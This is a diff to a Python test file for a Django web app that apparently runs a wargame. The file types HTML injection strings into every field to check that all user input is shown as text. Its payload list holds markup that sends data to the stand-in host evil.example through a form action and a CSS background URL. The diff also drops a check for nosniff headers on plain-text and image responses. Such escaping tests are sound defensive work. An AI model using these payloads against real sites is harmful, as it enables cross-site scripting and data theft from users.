@@ -19,7 +19,7 @@ from tests.locks import ROOT
 from tests.web.conftest import ANONYMOUS, Cast
 from tests.web.routes import every_address
 from tests.web.test_desk import act
-from tests.web.test_outcomes import READ, address
+from tests.web.test_outcomes import FILES, READ, address
 from tests.web.test_sheet import fields, post
 
 pytestmark = pytest.mark.django_db
@@ -43,7 +43,7 @@ PAYLOADS = [
     f"<form action=//evil.example><input name={MARK}>",
     f'<p style="background:url(//evil.example/{MARK})" hx-get="/{MARK}">',
 ]
-TOGETHER = [" ".join(PAYLOADS[first : first + 3]) for first in range(0, len(PAYLOADS), 3)]
+TOGETHER = [" ".join(PAYLOADS[first::4]) for first in range(4)]
 """Several at a time, as many as a name can hold."""
 ACTIVE = {"script", "iframe", "object", "embed", "svg", "math", "base", "style", "frame", "applet", "video", "audio"}
 
@@ -108,17 +108,16 @@ def test_the_reader_notices_what_gets_through() -> None:
 @pytest.mark.parametrize("payload", TOGETHER)
 def test_everything_that_is_typed_is_shown_as_text(cast: Cast, payload: str) -> None:
     everywhere(cast, payload)
-    addresses = [address(cast, name) for name in READ] + ["/", "/profile/", cast.address("stops/2/")]
+    addresses = [address(cast, name) for name in READ if name not in FILES] + [
+        "/",
+        "/profile/",
+        cast.address("stops/2/"),
+    ]
     found, shown = {}, 0
     for who in ("gm", "german commander", "allied commander", "spectator"):
         browser = cast.browser(who)
         for path in addresses:
-            response = browser.get(path)
-            kind = response.get("Content-Type", "")
-            if kind.startswith(("text/plain", "image/")):
-                assert response.headers["X-Content-Type-Options"] == "nosniff"
-                continue
-            reader = read(response.content.decode("utf-8", "replace"))
+            reader = read(browser.get(path).content.decode())
             found[who, path] = reader.found
             shown += len(reader.shown)
     for mail in OutboxMessage.objects.exclude(message=b""):
